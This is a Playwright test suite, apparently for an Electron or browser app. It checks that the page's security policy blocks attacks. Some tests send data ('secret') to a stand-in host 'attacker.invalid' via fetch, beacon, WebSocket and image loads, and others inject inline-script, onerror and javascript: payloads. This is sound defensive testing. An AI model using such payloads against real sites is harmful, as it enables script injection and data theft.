import type { Page } from '@playwright/test';
import type { App } from './support/test.ts';
import { expect, test } from './support/test.ts';
import { expectOk } from './support/work.ts';

/** What a browser says when a page's policy, or the host, forbids something. */
const forbidden =
  /Content Security Policy|content security policy|Failed to load resource|ERR_BLOCKED_BY|ERR_FAILED|violates/;

const elsewhere = 'https://attacker.invalid/';

/** The page is where it was, and the engine answers. */
async function expectUnharmed(app: App, address: string): Promise<void> {
  expect(app.page.url()).toBe(address);
  expectOk(await app.api.listEvents({ afterSeq: 0 }));
}

/** Runs an attack as a script of the page itself would. */
function attack<T>(page: Page, run: (target: string) => Promise<T>): Promise<T> {
  return page.evaluate(run, elsewhere);
}

test.beforeEach(({ app }) => app.forgive(forbidden));

test('R71 a page cannot open a window', async ({ app }) => {
  const { page } = app;
  const address = page.url();
  const opened: Page[] = [];
  page.context().on('page', (other) => opened.push(other));
  await attack(page, async (target) => {
    window.open(target);
  });
  // A browser opens an empty tab at most; the desktop application opens nothing.
  const isHarmless = (other: Page) =>
    other.isClosed() || (app.host === 'browser' && !other.url().startsWith(elsewhere));
  await expect.poll(() => opened.every(isHarmless)).toBe(true);
  await expectUnharmed(app, address);
});

test('R71 a page cannot reach another machine', async ({ app }) => {
  const outcomes = await attack(app.page, async (target) => {
    const attempt = async (action: () => Promise<unknown>) => {
      try {
        await action();
        return 'reached';
      } catch {
        return 'refused';
      }
    };
    const loads = (element: HTMLImageElement) =>
      new Promise((resolve, reject) => {
        element.onload = resolve;
        element.onerror = reject;
        element.src = `${target}image.png`;
      });
    const speaks = () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(target.replace('https', 'wss'));
        socket.onopen = resolve;
        socket.onerror = reject;
      });
    return [
      await attempt(() => fetch(target, { mode: 'no-cors' })),
      await attempt(() => loads(new Image())),
      await attempt(speaks),
      navigator.sendBeacon(target, 'secret') ? 'queued' : 'refused',
    ];
  });
  // A beacon is queued, and then blocked: what became of it nobody is told.
  expect(outcomes.slice(0, 3)).toEqual(['refused', 'refused', 'refused']);
  await expectUnharmed(app, app.page.url());
});

test('R71 what is written into the page as a script does not run', async ({ app }) => {
  const { page } = app;
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.wasAttacked = "inline script"';
    document.head.append(script);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="nowhere:" onerror="window.wasAttacked = \'handler\'">';
    document.body.append(holder);
    const link = document.createElement('a');
    link.href = 'javascript:window.wasAttacked="link"';
    document.body.append(link);
    link.click();
    link.remove();
    holder.remove();
  });
  // Handlers run after what is under way now.
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 0)));
  expect(await page.evaluate(() => 'wasAttacked' in window)).toBe(false);
});

test('R71 text does not become code', async ({ app }) => {
  const { page } = app;
  // A timer of text is subject to the page's policy even where a debugger may evaluate.
  await page.evaluate(() => {
    (setTimeout as unknown as (code: string) => void)('window.wasAttacked = "timer"');
  });
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 0)));
  expect(await page.evaluate(() => 'wasAttacked' in window)).toBe(false);
});

test('R71 a page embeds nothing', async ({ app }) => {
  const { page } = app;
  await page.evaluate((target) => {
    const frame = document.createElement('iframe');
    frame.src = target;
    document.body.append(frame);
  }, elsewhere);
  await expect.poll(() => page.frames().filter((frame) => frame.url().startsWith(elsewhere))).toEqual([]);
  const isPowerless = await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<p>inside</p>';
    document.body.append(frame);
    return new Promise<boolean>((resolve) => {
      frame.onload = () => resolve(!('signalboxHost' in (frame.contentWindow ?? {})));
      setTimeout(() => resolve(!('signalboxHost' in (frame.contentWindow ?? {}))), 1_000);
    });
  });
  expect(isPowerless).toBe(true);
});

test('R71 a page has nothing of Node or Electron', async ({ app }) => {
  const found = await app.page.evaluate(() =>
    ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer'].filter((name) => name in window),
  );
  expect(found).toEqual([]);
});
